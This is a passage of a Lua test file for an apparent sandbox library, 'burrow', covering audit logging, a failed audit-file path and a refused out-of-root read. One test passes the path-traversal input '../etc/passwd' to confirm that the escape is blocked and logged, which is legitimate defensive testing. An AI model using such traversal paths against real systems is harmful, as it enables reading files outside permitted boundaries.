    local lines = json_lines(log)
    assert.are.equal(1, #lines)
    assert.are.equal("read_file", lines[1].tool)
  end)

  it("an audit file that cannot be opened makes burrow.open fail", function()
    local ws, msg, code = burrow.open { roots = { { path = root } }, resolver = H.RESOLVER,
      policies = { "audit" }, audit = logdir .. "/no/such/dir/audit.jsonl" }
    if ws then ws:close() end
    assert.is_nil(ws)
    assert.are.equal("INVALID_ARGUMENT", code)
    assert.truthy(msg:find("audit file", 1, true), msg)
  end)

  it("a call refused outside the roots is logged too (OUTSIDE_ROOT)", function()
    local ws = open_ws(root, { "audit" }, { audit = log })
    local res, _, code = read(ws, "../etc/passwd")
    assert.is_nil(res)
    assert.are.equal("OUTSIDE_ROOT", code)
    local lines = json_lines(log)
    assert.are.equal(1, #lines, "the escape attempt left no audit record")
    assert.are.equal("OUTSIDE_ROOT", lines[1].code)
    assert.are.equal("../etc/passwd", lines[1].path)
  end)
end)
